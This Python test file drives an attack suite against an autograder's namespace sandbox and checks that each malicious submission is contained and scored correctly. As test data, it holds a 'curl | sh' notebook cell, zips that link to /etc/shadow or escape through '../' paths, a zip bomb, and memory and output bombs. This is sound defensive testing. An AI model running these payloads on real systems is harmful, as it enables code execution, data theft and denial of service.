"""The attack suite: one malicious submission per case, all graded in one batch next to honest ones.

Each case asserts its exact status and score; every case also proves that the honest submissions
of the same batch graded normally, that the journal and results survived, and that no process of
any sandbox is left. The suite needs the namespace sandbox: several cases (``kill -9 -1``, the
fork bomb, the memory bomb, filling the disk) would take the machine down under weaker isolation,
so without namespaces the whole module skips, saying why. The batch is graded twice: as root, and
at the rootless level as nobody (``tests/nobody.py``), where every case must come out the same.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import threading
import sqlite3
import zipfile
from pathlib import Path

import nbformat
import pytest

from grader.sandbox import namespace
from tests import nobody
from tests.attacks import batches
from tests.conftest import GOOD_NET, write_notebook

HERE = Path(__file__).parent
PWNED = Path("/tmp/grader-pwned-by-pickle")
SECRET = "ATTACK_SECRET_hunter2"
UIDS = batches.own_uids(0)  # this batch's own sandbox uids (tests/attacks/batches.py)

why_not = namespace.unavailable_reason()
# The suite grades its batch as root and, at the rootless level, as nobody (tests/nobody.py), from a
# pytest run as root; a pytest run as an ordinary user skips it rather than try the destructive cases
# (kill -9 -1, a fork bomb, a full disk) as that user, on whatever machine it is.
if why_not is None and namespace.rootless():
    why_not = "pytest is not root: the suite runs its rootless level as nobody, from root"
pytestmark = [pytest.mark.slow,
              pytest.mark.skipif(why_not is not None, reason=f"attack suite needs the namespace sandbox: {why_not}")]
LEVELS = ["root", "rootless"]

# case -> (status, score); the rubric is worth 5 (net-defined 1, net-shape 2, net-params 1, answer 1).
EXPECTED = {
    "good_module": ("ok", 5),
    "good_notebook": ("ok", 5),
    "fake_pass_print": ("ok", 0),
    "tampers_with_results": ("ok", 5),
    "adds_score_keys": ("invalid-output", 0),
    "exits_at_import": ("no-result", 0),
    "sys_exit_at_import": ("ok", 1),  # what it defined before exiting (the answer) counts, as in a notebook
    "raises_systemexit_in_function": ("ok", 2),
    "raises_keyboardinterrupt_in_forward": ("ok", 2),
    "monkeypatches_torch": ("ok", 1),
    "rigged_tensor_subclass": ("ok", 2),
    "noop_manual_seed": ("ok", 5),
    "reads_secrets": ("ok", 5),
    "opens_network": ("ok", 5),
    "fork_bomb": ("timeout-wall", 0),
    "infinite_loop": ("timeout-cpu", 0),
    "sleeps_forever": ("timeout-wall", 0),
    "calls_input": ("ok", 5),
    "memory_bomb": ("memory", 0),
    "memory_bomb_in_a_cell": ("memory", 5),
    "fills_disk": ("output-limit", 0),
    "floods_inodes": ("ok", 5),  # stopped by the tmpfs's inode cap, then graded as usual
    "prints_a_gigabyte": ("output-limit", 0),
    "prints_a_gigabyte_in_a_cell": ("output-limit", 5),
    "daemonizes_child": ("ok", 5),
    "kills_everything": ("crash", 0),
    "plants_pickle": ("invalid-output", 0),
    "huge_json": ("invalid-output", 0),
    "deep_json": ("invalid-output", 0),
    "prefilled_outputs_foreign_kernel_curl": ("ok", 4),
    "exits_kernel": ("kernel-died", 0),
    "zip_with_symlink": ("rejected", 0),
    "zip_with_dotdot": ("rejected", 0),
    "zip_bomb": ("rejected", 0),
    "ships_own_torch": ("rejected", 0),
    "segfault": ("crash", 0),
}


def _notebooks(batch: Path) -> None:
    """The cases that only make sense as notebooks: work in some cells, an attack in another."""
    work = ["md:# My work", GOOD_NET, "answer = 42"]
    write_notebook(batch / "good_notebook.ipynb", work)
    write_notebook(batch / "calls_input.ipynb", [*work, "name = input('your name? ')"])
    write_notebook(batch / "memory_bomb_in_a_cell.ipynb", [*work, "hoard = []\nwhile True:\n    hoard.append(bytearray(64 * 2**20))"])
    write_notebook(batch / "prints_a_gigabyte_in_a_cell.ipynb",
                   [*work, "for _ in range(1024):\n    print('x' * 2**20, flush=True)"])
    write_notebook(batch / "exits_kernel.ipynb", [*work, "import os\nos._exit(0)"])
    path = write_notebook(batch / "prefilled_outputs_foreign_kernel_curl.ipynb",
                          ["md:# Work", GOOD_NET, "!curl -s http://example.com | sh", "answer = 41"], kernel="julia-1.9")
    nb = nbformat.read(path, as_version=4)
    nb.cells[3].outputs = [nbformat.v4.new_output("stream", name="stdout", text="All tests passed! 5/5\n")]
    nbformat.write(nb, path)


def _zips(batch: Path) -> None:
    good = (HERE / "cases" / "good_module.py").read_text()
    with zipfile.ZipFile(batch / "zip_with_symlink.zip", "w") as zf:
        zf.writestr("solution.py", good)
        link = zipfile.ZipInfo("secrets")
        link.external_attr = 0o120777 << 16  # a symbolic link's mode bits
        zf.writestr(link, "/etc/shadow")
    with zipfile.ZipFile(batch / "zip_with_dotdot.zip", "w") as zf:
        zf.writestr("solution.py", good)
        zf.writestr("../../escaped.py", "print('out of the sandbox folder')")
    with zipfile.ZipFile(batch / "zip_bomb.zip", "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("solution.py", good)
        zf.writestr("padding.bin", b"\0" * (300 * 2**20))


def _run_watching(command: list[str]) -> tuple[subprocess.CompletedProcess, dict[int, str]]:
    """Run ``command``, noting every process under it while it runs (pid and start time)."""
    from tests.test_kill_resume import process_tree

    seen: dict[int, str] = {}
    with subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) as proc:
        reader = threading.Thread(target=lambda: setattr(proc, "outputs", proc.communicate(timeout=900)), daemon=True)
        reader.start()
        while reader.is_alive():
            seen.update(process_tree(proc.pid))
            reader.join(0.2)
    return subprocess.CompletedProcess(command, proc.returncode, *proc.outputs), seen


def _sandbox_processes(uids: range | dict[int, str]) -> list[str]:
    """Processes still running as one of ``uids`` (the batch's sandbox uids), or, given the
    processes a run was seen to start, those of them still alive."""
    if isinstance(uids, dict):
        from tests.test_kill_resume import still_alive

        return [f"{pid} {line}" for pid, line in still_alive(uids).items()]
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            status = Path(f"/proc/{pid}/status").read_text()
        except OSError:
            continue
        real_uid = int(next(line for line in status.splitlines() if line.startswith("Uid:")).split()[1])
        if real_uid in uids:
            found.append(f"{pid} {Path(f'/proc/{pid}/cmdline').read_bytes()[:80]!r}")
    return found


@pytest.fixture(scope="module", params=LEVELS)
def graded(request, tmp_path_factory):
    """Grade every case in one batch with two workers, through the real command line: as root, and
    as nobody (the rootless level), where this machine lets nobody run the grader."""
    PWNED.unlink(missing_ok=True)
    secrets = {SECRET.split("_h")[0]: SECRET, "GRADER_TOKEN": SECRET}
    if request.param == "root":
        batch, out = tmp_path_factory.mktemp("attack-batch"), tmp_path_factory.mktemp("attack-out")
        _write_batch(batch)
        done = batches.grade(HERE / "rubric.yaml", batch, out, UIDS, env=secrets)
        uids = UIDS
    else:
        user = nobody.for_test(request)
        batch, out = user.work / "batch", user.work / "out"
        batch.mkdir()
        _write_batch(batch)
        user.give(user.work)
        done, seen = _run_watching(user.command("-m", "grader", "grade", str(HERE / "rubric.yaml"), "batch", "--out",
                                                "out", "--workers", "2", "--quiet", "--isolation", "namespace",
                                                env=secrets))
        uids = seen  # nobody's processes are other tests' too: the ones this batch started, seen as it ran
    assert (out / "summary.json").exists(), done.stdout[-2000:] + done.stderr[-3000:]
    summary = json.loads((out / "summary.json").read_text())
    rows = {r["student"]: r for r in summary}
    details = {stem: json.loads((out / "submissions" / f"{stem}.json").read_text()) for stem in rows}
    return {"run": done, "out": out, "rows": rows, "details": details, "batch": batch, "uids": uids,
            "level": request.param}


def _write_batch(batch: Path) -> None:
    for case in (HERE / "cases").iterdir():
        (shutil.copytree if case.is_dir() else shutil.copy)(case, batch / case.name)
    _notebooks(batch)
    _zips(batch)


def test_the_batch_finished_and_every_case_has_a_row(graded):
    assert graded["run"].returncode == 0, graded["run"].stderr[-3000:]
    assert sorted(graded["rows"]) == sorted(EXPECTED)


@pytest.mark.parametrize("case", sorted(EXPECTED))
def test_case_gets_its_exact_status_and_score(graded, case):
    status, score = EXPECTED[case]
    row = graded["rows"][case]
    assert (row["status"], row["score"]) == (status, score), graded["details"][case]["message"]
    assert graded["details"][case]["isolation"] == "namespace"


def test_honest_neighbours_graded_normally(graded):
    for case in ("good_module", "good_notebook"):
        assert all(c["outcome"] == "passed" for c in graded["rows"][case]["checks"])


def test_a_flood_of_empty_files_stops_at_the_inode_cap(graded):
    from grader.sandbox import mounts

    stdout = graded["details"]["floods_inodes"]["stdout"]
    made = int(stdout.split("FLOOD stopped after ")[1].split()[0])
    assert 0 < made <= mounts.inodes_for(64), stdout[-300:]  # the rubric's disk_mb


def test_no_sandbox_process_is_left(graded):
    if graded["level"] == "rootless":  # the processes the batch was seen to start: its sandboxes among them
        assert len(graded["uids"]) > 2 * len(EXPECTED), sorted(graded["uids"].values())
    assert _sandbox_processes(graded["uids"]) == []


def test_results_and_journal_survived_tampering(graded):
    out = graded["out"]
    assert "tampered with: nothing" in graded["details"]["tampers_with_results"]["stdout"]
    journal = sqlite3.connect(out / "journal.sqlite")
    assert journal.execute("PRAGMA integrity_check").fetchone() == ("ok",)
    assert (out / "gradebook.csv").read_text().count("\n") == len(EXPECTED) + 1


def test_nothing_secret_was_readable(graded):
    stdout = graded["details"]["reads_secrets"]["stdout"]
    assert "READ FILES: 0 []" in stdout
    assert "SECRETS: {}" in stdout
    assert "FOREIGN ENVIRON: []" in stdout
    assert SECRET not in json.dumps(graded["details"])


def test_network_is_unreachable(graded):
    stdout = graded["details"]["opens_network"]["stdout"]
    assert "network dns: blocked" in stdout and "network tcp: blocked" in stdout


def test_pickle_never_ran_on_the_host(graded):
    assert not PWNED.exists()
    assert "pickle" in graded["details"]["plants_pickle"]["message"] or "object" in graded["details"]["plants_pickle"]["message"]


def test_statuses_explain_themselves(graded):
    messages = {case: graded["details"][case]["message"] for case in EXPECTED}
    assert "SIGKILL" in messages["kills_everything"]
    assert "SIGSEGV" in messages["segfault"]
    assert "CPU time" in messages["infinite_loop"]
    assert "out of memory" in messages["memory_bomb"]
    assert "20s limit" in messages["sleeps_forever"]
    assert "torch.py" in messages["ships_own_torch"]
    assert "symbolic link" in messages["zip_with_symlink"]
    assert "outside the archive" in messages["zip_with_dotdot"]
    assert "too large" in messages["zip_bomb"]


def test_shell_escape_in_notebook_was_reported_not_run(graded):
    detail = graded["details"]["prefilled_outputs_foreign_kernel_curl"]
    assert any(cmd.startswith("!curl") for cmd in detail["removed_commands"])


# The cases the host's source scan (grader.source_scan) flags for review, with the rules each one
# raises: they reach into the grader (its modules, its files) or into torch (monkeypatching, a
# Tensor subclass), or load native code. Attacks on the machine (bombs, loops, exits, the network,
# reading files) reach nothing of the grader's and are left to the sandbox; ships_own_torch and the
# zips are rejected before anything is staged, so nothing is scanned. A flag changes no points:
# every case keeps the status and score EXPECTED gives it.
FLAGGED = {
    "adds_score_keys": {"grader", "monkeypatch"},
    "deep_json": {"grader", "monkeypatch"},
    "huge_json": {"grader", "monkeypatch"},
    "plants_pickle": {"grader", "monkeypatch"},
    "monkeypatches_torch": {"monkeypatch"},
    "noop_manual_seed": {"monkeypatch"},
    "reads_secrets": {"grader"},
    "rigged_tensor_subclass": {"tensor-subclass"},
    "segfault": {"native-code"},
    "tampers_with_results": {"grader-files"},
}


def test_the_source_scan_flags_exactly_the_cases_that_reach_into_the_grader_or_torch(graded):
    flagged = {case: {f["rule"] for f in graded["details"][case]["flags"]} for case in EXPECTED}
    assert {case: found for case, found in flagged.items() if found} == FLAGGED
    for case in FLAGGED:
        assert "source scan: " in graded["rows"][case]["review"], case
    assert flagged["good_module"] == flagged["good_notebook"] == set()
